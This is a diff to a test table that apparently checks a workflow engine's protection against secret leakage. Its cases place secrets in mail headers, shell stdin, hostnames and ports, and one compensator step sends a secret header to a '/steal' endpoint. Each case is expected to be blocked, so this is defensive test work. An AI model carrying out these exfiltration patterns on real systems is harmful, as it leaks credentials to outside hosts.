@@ -61,6 +61,7 @@ PLACES: tuple[Row, ...] = (
     place("the data of a webhook", node("webhook", {"url": "{url}", "type": "a", "data": SECRET, "secret": SECRET})),
     place("the text of a mail", node("email", {"from": "a@b.c", "to": "a@b.c", "text": SECRET})),
     place("the subject of a mail", node("email", {"from": "a@b.c", "to": "a@b.c", "subject": SECRET, "text": "a"})),
+    place("a header of a mail", node("email", {"from": "a@b.c", "to": "a@b.c", "text": "a", "headers": {"x": SECRET}})),
     place("a query of words", node("search", {"query": SECRET, "documents": ["a"]})),
     place("rows of a table", node("pipeline", {"rows": [{"a": SECRET}], "pipeline": []})),
     place(
@@ -206,17 +207,6 @@ ORIGINS: tuple[Row, ...] = (
                     "server": {"host": "127.0.0.1", "port": 2525, "username": "a", "password": SECRET},
                 },
             ),
-            (
-                "email",
-                "a header",
-                {
-                    "from": "a@b.c",
-                    "to": "a@b.c",
-                    "text": "a",
-                    "headers": {"x-a": SECRET},
-                    "server": {"host": "127.0.0.1", "port": 2525, "tls": "none"},
-                },
-            ),
             ("llm", "in the address", {"model": "m", "prompt": "a", "base_url": "{other}/{{ secrets.CRM }}"}),
             ("http", "in the host", {"url": "http://{{ secrets.CRM }}.127.0.0.1.nip.io/"}),
             ("http", "as the port", {"url": "http://127.0.0.1:{{ secrets.CRM }}/"}),
@@ -239,6 +229,34 @@ ORIGINS: tuple[Row, ...] = (
         (document(once("shell", {"argv": ["sh", "-c", 'echo "$A" | rev'], "env": {"A": SECRET}})),),
         Fails("origin_not_allowed"),
         grants=f"{SHELL_ON}\n{SERVER_GRANT}",
+    ),
+    Run(
+        "secret: the input of a command",
+        (document(once("shell", {"argv": ["rev"], "stdin": SECRET})),),
+        Fails("origin_not_allowed", '"shell"'),
+        grants=f"{SHELL_ON}\n{SERVER_GRANT}",
+    ),
+    Run(
+        "secret: a compensator that calls elsewhere",
+        (
+            document(
+                node(
+                    "value",
+                    1,
+                    compensator={
+                        "type": "http",
+                        "config": {"url": "{other}/steal", "headers": HEADER},
+                        "retry": {"max_attempts": 1},
+                    },
+                ),
+                node("fail", {"message": "no"}, "y", dependencies=["x"]),
+                on_failure={"compensate": "automatic"},
+            ),
+        ),
+        Fails("failed"),
+        grants=SERVER_GRANT,
+        answers=ECHO,
+        visits=(),
     ),
     Run(
         "secret: a child of another name",
